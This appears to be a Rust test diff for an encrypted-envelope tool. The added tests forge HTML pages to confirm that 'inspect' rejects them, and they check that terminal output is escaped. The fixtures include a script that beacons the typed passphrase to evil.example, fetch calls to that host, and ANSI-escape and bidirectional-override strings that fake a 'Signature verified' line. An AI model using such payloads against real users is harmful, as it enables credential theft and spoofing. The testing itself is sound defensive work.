@@ -712,11 +712,12 @@ fn wrong_passphrase_and_damage_are_reported_without_output() {
     let at = header.windows(7).position(|w| w == b"\"alice@").unwrap() + 2;
     header[at] ^= 1;
     s.write("header.html", with_envelope(&page, &header));
+    // The page around it still shows alice: not the page securedoc renders for "amice".
     s.cmd()
         .args(["inspect", "header.html"])
         .assert()
-        .success()
-        .stdout(contains("amice@example.org"));
+        .code(1)
+        .stdout(contains("amice@example.org").and(contains("NOT GENUINE")));
     fails_with(
         s.cmd().args([
             "open",
@@ -799,4 +800,227 @@ fn wrong_passphrase_and_damage_are_reported_without_output() {
         "cut.html",
         "half.html",
     ]);
+}
+
+/// Item 22: a page that carries a genuine envelope's data block but runs a
+/// script of its own (here one that posts the passphrase away) is not
+/// genuine; inspect says what differs and exits 1. The genuine page names the
+/// release that rendered it.
+#[test]
+fn inspect_judges_the_whole_page_not_only_the_data_block() {
+    let s = Scratch::new();
+    s.sealed("env.html");
+    let release = env!("CARGO_PKG_VERSION");
+    s.cmd()
+        .args(["inspect", "env.html"])
+        .assert()
+        .success()
+        .stdout(contains(format!(
+            "page:        genuine: exactly as securedoc {release} renders it"
+        )));
+    // The envelope's bytes alone carry no page to judge.
+    let page = String::from_utf8(s.read("env.html")).unwrap();
+    s.write("env.sdoc", envelope_of(page.as_bytes()));
+    s.cmd()
+        .args(["inspect", "env.sdoc"])
+        .assert()
+        .success()
+        .stdout(contains("page:        none"));
+
+    let stealer = "<script>document.getElementById('unlock').addEventListener('submit', () => \
+        navigator.sendBeacon('https://evil.example/p', document.getElementById('passphrase').value))</script>";
+    let forgeries = [
+        (
+            "extra-script.html",
+            page.replacen("</body>", &format!("{stealer}\n</body>"), 1),
+            "an extra script that securedoc does not write",
+        ),
+        (
+            // The attacker's script in place of the bootstrap: same tag, other text.
+            "swapped-bootstrap.html",
+            {
+                let at = page.rfind("<script>").unwrap() + "<script>".len();
+                let end = at + page[at..].find("</script>").unwrap();
+                format!(
+                    "{}{}{}",
+                    &page[..at],
+                    "fetch('https://evil.example')",
+                    &page[end..]
+                )
+            },
+            "its script <script> is not securedoc's",
+        ),
+        (
+            "csp.html",
+            page.replacen(
+                "connect-src &#x27;none&#x27;",
+                "connect-src https://evil.example",
+                1,
+            ),
+            "lets it connect to https://evil.example, but the key server in its header is 'none'",
+        ),
+        (
+            "opener.html",
+            {
+                let at = page.find("id=\"securedoc-opener\">").unwrap() + 100;
+                let swap = if &page[at..at + 1] == "A" { "B" } else { "A" };
+                format!("{}{swap}{}", &page[..at], &page[at + 1..])
+            },
+            "its opener (the securedoc-opener block) is not securedoc's",
+        ),
+        (
+            "handler.html",
+            page.replacen(
+                "<main ",
+                "<main onmouseover=\"fetch('https://evil.example')\" ",
+                1,
+            ),
+            "its markup before the data block differs from securedoc's at character",
+        ),
+        (
+            "older.html",
+            page.replacen(
+                &format!("content=\"securedoc {release}\""),
+                "content=\"securedoc 0.0.1\"",
+                1,
+            ),
+            "made by securedoc 0.0.1, not by this release",
+        ),
+    ];
+    for (name, forged, difference) in forgeries {
+        assert_ne!(forged, page, "{name} is a forgery");
+        assert_eq!(
+            envelope_of(forged.as_bytes()),
+            envelope_of(page.as_bytes()),
+            "{name} keeps the genuine data block"
+        );
+        s.write(name, &forged);
+        let output = s.cmd().args(["inspect", name]).output().unwrap();
+        let (stdout, stderr) = (
+            String::from_utf8(output.stdout).unwrap(),
+            String::from_utf8(output.stderr).unwrap(),
+        );
+        assert_eq!(output.status.code(), Some(1), "{name}: {stdout}{stderr}");
+        assert!(
+            stdout.contains(&format!(
+                "page:        NOT GENUINE: not what securedoc {release} renders for this header"
+            )) && stdout.contains(difference),
+            "{name}: {stdout}"
+        );
+        assert!(
+            stderr.starts_with(&format!(
+                "securedoc: error: {name} is not a genuine securedoc page"
+            )) && stderr.contains("do not type a password into it"),
+            "{name}: {stderr}"
+        );
+        // --json prints the header and says what differs on stderr.
+        let json = s.cmd().args(["inspect", "--json", name]).output().unwrap();
+        assert_eq!(json.status.code(), Some(1));
+        assert!(String::from_utf8_lossy(&json.stderr).contains(difference));
+    }
+}
+
+/// Item 19: what a sender wrote (the sealed message's Subject, From, To,
+/// attachment names, already made safe by the MIME view) reaches the terminal escaped, so an ESC sequence, a
+/// carriage return or a bidirectional override cannot repaint the screen
+/// with a fake "verified" line.
+#[test]
+fn envelope_text_cannot_repaint_the_terminal() {
+    let s = Scratch::new();
+    let fake = "\u{1b}[2K\r\u{1b}[32mSignature verified: sender is your bank\u{1b}[0m";
+    let eml = format!(
+        "From: =?utf-8?b?{from}?= <alice@example.org>\r\nTo: =?utf-8?b?{to}?= <bob@example.net>\r\n\
+         Subject: =?utf-8?b?{subject}?=\r\nDate: Sun, 22 Nov 2026 10:00:00 +0000\r\n\
+         Content-Type: multipart/mixed; boundary=b\r\n\r\n--b\r\nContent-Type: text/plain\r\n\r\nhello\r\n\
+         --b\r\nContent-Type: application/octet-stream\r\nContent-Disposition: attachment; filename*=utf-8''invoice%E2%80%AEfdp.exe\r\n\r\nMZ\r\n--b--\r\n",
+        from = b64(&format!("Alice{fake}")),
+        to = b64("Bob\u{202e}\u{2066}"),
+        subject = b64(&format!("Results\r{fake}")),
+    );
+    s.write("crafted.eml", eml);
+    s.seal(&[
+        "--to",
+        "bob@example.net",
+        "--eml",
+        "crafted.eml",
+        "-o",
+        "env.html",
+    ])
+    .assert()
+    .success();
+    let output = s
+        .cmd()
+        .args(["open", "env.html", "--passphrase-file", "pass.txt"])
+        .output()
+        .unwrap();
+    assert!(
+        output.status.success(),
+        "{}",
+        String::from_utf8_lossy(&output.stderr)
+    );
+    let stdout = String::from_utf8(output.stdout).unwrap();
+    for raw in ['\u{1b}', '\r', '\u{202e}', '\u{2066}'] {
+        assert!(
+            !stdout.contains(raw),
+            "{raw:?} reached the terminal: {stdout:?}"
+        );
+    }
+    assert!(
+        stdout.contains("Subject: Results\\r\\u{1b}[2K\\r\\u{1b}[32mSignature verified"),
+        "{stdout}"
+    );
+    assert!(stdout.contains("\\u{202e}"), "{stdout}");
+
+    // The envelope's own header (a From with a bidirectional override), in
+    // inspect's text and JSON output.
+    s.cmd()
+        .args([
+            "seal",
+            "--from",
+            "ali\u{202e}ce@example.org",
+            "--passphrase-file",
+            "pass.txt",
+        ])
+        .args([
+            "--to",
+            "bob@example.net",
+            "--subject",
+            "x",
+            "--body",
+            "y",
+            "-o",
+            "bidi.html",
+        ])
+        .assert()
+        .success();
+    for json in [false, true] {
+        let mut cmd = s.cmd();
+        cmd.arg("inspect")
+            .args(json.then_some("--json"))
+            .arg("bidi.html");
+        let stdout = String::from_utf8(cmd.output().unwrap().stdout).unwrap();
+        assert!(!stdout.contains('\u{202e}'), "{stdout}");
+        let escaped = if json {
+            "ali\\u202ece@"
+        } else {
+            "ali\\u{202e}ce@"
+        };
+        assert!(stdout.contains(escaped), "{stdout}");
+    }
+
+    // Errors quote what they are given (here a file name) escaped too.
+    let name = "x\u{1b}[2K\rverified.html";
+    let output = s.cmd().args(["inspect", name]).output().unwrap();
+    let stderr = String::from_utf8(output.stderr).unwrap();
+    assert_eq!(output.status.code(), Some(1));
+    assert!(
+        !stderr.contains('\u{1b}') && !stderr.contains('\r'),
+        "{stderr:?}"
+    );
+    assert!(stderr.contains("x\\u{1b}[2K\\rverified.html"), "{stderr}");
+}
+
+fn b64(text: &str) -> String {
+    use base64::Engine;
+    base64::engine::general_purpose::STANDARD.encode(text)
 }
